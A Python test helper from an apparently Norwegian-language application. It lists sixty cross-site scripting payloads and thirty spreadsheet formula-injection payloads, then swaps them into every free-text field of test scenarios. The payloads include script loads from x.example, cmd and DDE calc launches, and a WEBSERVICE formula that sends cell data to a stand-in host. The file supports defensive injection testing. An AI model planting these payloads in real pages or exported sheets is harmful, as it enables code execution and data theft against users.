"""Texts that would do harm if a page ran them, and a log of all the stories full of them."""

from __future__ import annotations

import re
from dataclasses import replace
from itertools import cycle
from typing import TYPE_CHECKING, Final

from innforing.application import scenario
from innforing.application.scenario_fil import les_fortellinger
from innforing.application.tidslinje import tidslinje
from innforing.domain.grunnmur.verdi import LENGSTE_TEKST
from innforing.domain.katalog import STEG
from innforing.web.skjema.feltslag import Blad, Gruppe, Liste, Rekke, Tabell, felter_i
from tests.application.demohus import nytt

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

    import pytest
    from pydantic import BaseModel

    from innforing.application.scenario_fil import Innlest
    from innforing.application.tidslinje import Post, Tidslinje
    from innforing.registers.kommuner import Kommuneregister
    from innforing.web.skjema.feltslag import Slag

SKRIPT: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<script\x0d\x0a>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<script type=module>alert(1)</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,%3Csvg%20onload=alert(1)%3E>",
    "</svg><script>alert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//x.example/x.css>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<div style=background:url(javascript:alert(1))>",
    "<style>@import'//x.example/x.css';</style>",
    "<div hx-get=/om hx-trigger=load hx-swap=outerHTML>",
    "<div hx-on::load=alert(1) data-hx-on:load=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "`-alert(1)-`",
    "';alert(1)//",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}{% if 1 %}<b>x</b>{% endif %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;<b>&amp;</b>",
)
"""Sixty; the domain takes a line break, but no other control character."""

FORMLER: Final = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "==1", "=+1", "=-1", "=@1", "+=1", "-=1", "@=1"),
    *("＝1+1", "＋1+1", "－1", "＠SUM(A1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
    *("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")'),
    *('=WEBSERVICE("http://x/"&A1)', '=IMPORTXML("http://x","//a")', '=DDE("cmd";"/C";"x")'),
    *("=\n1+1", "a;=1+1", "a,=1+1", 'a";=1+1', "a\n=1+1", "a\n+1", "\u200b=1+1"),
)
"""Thirty, for a sheet or its reader."""

ALLE: Final = (*SKRIPT, *FORMLER)
SAKSNUMMER: Final = re.compile("sak-[0-9]+-[0-9]+")
"""Which item of the group's book a step rests on: another is another step."""


class Bytter:
    """Puts the next text in the place of each that it has not met; the same for the same."""

    def __init__(self) -> None:
        """Begin with the first."""
        self._neste = cycle(ALLE)
        self.byttet: dict[str, str] = {}

    def tekst(self, opphav: str) -> str:
        """The one that stands for a text."""
        if opphav not in self.byttet:
            self.byttet[opphav] = next(self._neste)
        return self.byttet[opphav]

    def modell(self, modell: type[BaseModel], data: object) -> object:
        """What is given of a step or nested value, with every free text exchanged."""
        if not isinstance(data, dict):
            return data
        felter = felter_i(modell)
        return {n: self._felt(felter[n].slag, v) if n in felter else v for n, v in data.items()}

    def _felt(self, slag: Slag, verdi: object) -> object:
        if isinstance(slag, Blad):
            tekst = isinstance(verdi, str) and slag.art == "tekst" and slag.lengst == LENGSTE_TEKST
            fritt = tekst and not SAKSNUMMER.fullmatch(str(verdi))
            return self.tekst(str(verdi)) if fritt else verdi
        if isinstance(slag, Gruppe):
            return self.modell(slag.modell, verdi)
        if isinstance(slag, Tabell) and isinstance(verdi, dict):
            return {n: self._felt(slag.av, v) for n, v in verdi.items()}
        if isinstance(slag, Liste | Rekke) and isinstance(verdi, list):
            return [self._felt(slag.av, ledd) for ledd in verdi]
        return verdi


def fortalt_farlig(mappe: Path, *stier: Path, monkeypatch: pytest.MonkeyPatch) -> Bytter:
    """Tell the stories with other texts; ids, codes and days are as they were."""
    bytter = Bytter()

    def farlig(
        fortellinger: Sequence[Innlest], kommuner: Kommuneregister, *, fro: str
    ) -> Tidslinje:
        linje = tidslinje(fortellinger, kommuner, fro=fro)
        navn = {id_: bytter.tekst(navn) for id_, navn in linje.personer.items()}
        return replace(linje, poster=tuple(map(bytt, linje.poster)), personer=navn)

    def bytt(post: Post) -> Post:
        kommando = post.kommando
        data = bytter.modell(STEG[kommando.steg], dict(kommando.data))
        assert isinstance(data, dict)
        return replace(post, kommando=replace(kommando, data=data))

    monkeypatch.setattr(scenario, "tidslinje", farlig)
    with nytt(mappe, *stier) as hus:
        scenario.kjor(hus, [uten_svar(en) for en in les_fortellinger(stier)])
    return bytter


def uten_svar(fortelling: Innlest) -> Innlest:
    """The story without what it asks at the end: some answers are texts."""
    return replace(fortelling, form=fortelling.form.model_copy(update={"forvent": ()}))
